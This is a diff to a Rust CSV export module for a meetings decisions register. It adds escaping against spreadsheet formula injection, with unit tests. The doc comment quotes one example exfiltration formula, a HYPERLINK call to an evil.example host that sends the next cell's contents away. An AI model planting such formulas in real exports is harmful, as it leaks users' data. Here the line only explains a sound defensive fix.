@@ -1,6 +1,13 @@
 //! The decisions register as CSV: one row per decision, positions and actions summarized, UTF-8
 //! with a byte-order mark so that Excel opens accents correctly. French uses `;` as separator and
 //! French labels, as French Excel expects; English uses `,`.
+//!
+//! Every cell is written through [`text_cell`]: partners write the titles, texts and comments,
+//! and a cell beginning with `=` `+` `-` `@`, a tab or a carriage return is a formula to Excel and
+//! LibreOffice (`=HYPERLINK("https://evil.example/?"&E2;"ok")` sends the next cell away when
+//! clicked). Such a cell gets a leading `'`, which spreadsheets read as "this is text".
+
+use std::borrow::Cow;
 
 use chrono_tz::Europe::Paris;
 
@@ -67,20 +74,50 @@ pub fn render(decisions: &[DecisionView], locale: Locale) -> Result<Vec<u8>, csv
                     )
                 })
                 .collect();
-            writer.write_record([
-                d.created_at
-                    .with_timezone(&Paris)
-                    .format("%Y-%m-%d")
-                    .to_string(),
-                d.meeting_title.clone(),
-                d.title.clone(),
-                label(&d.status, locale).to_owned(),
-                d.text.clone(),
-                positions.join(" ; "),
-                actions.join(" ; "),
-            ])?;
+            let date = d
+                .created_at
+                .with_timezone(&Paris)
+                .format("%Y-%m-%d")
+                .to_string();
+            let (positions, actions) = (positions.join(" ; "), actions.join(" ; "));
+            writer.write_record(
+                [
+                    date.as_str(),
+                    d.meeting_title.as_str(),
+                    d.title.as_str(),
+                    label(&d.status, locale),
+                    d.text.as_str(),
+                    positions.as_str(),
+                    actions.as_str(),
+                ]
+                .map(|cell| text_cell(cell).into_owned()),
+            )?;
         }
         writer.flush()?;
     }
     Ok(out)
+}
+
+/// A cell a spreadsheet shows as text: `'` before what it would otherwise run as a formula.
+pub fn text_cell(value: &str) -> Cow<'_, str> {
+    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        Cow::Owned(format!("'{value}"))
+    } else {
+        Cow::Borrowed(value)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::text_cell;
+
+    #[test]
+    fn formulas_become_text_and_the_rest_is_untouched() {
+        for formula in ["=1+1", "+33 6", "-2", "@SUM(A1)", "\tx", "\rx"] {
+            assert_eq!(text_cell(formula), format!("'{formula}"));
+        }
+        for plain in ["", "Budget 2027", "2026-12-03", " =1", "a=b", "'quoted"] {
+            assert_eq!(text_cell(plain), plain);
+        }
+    }
 }
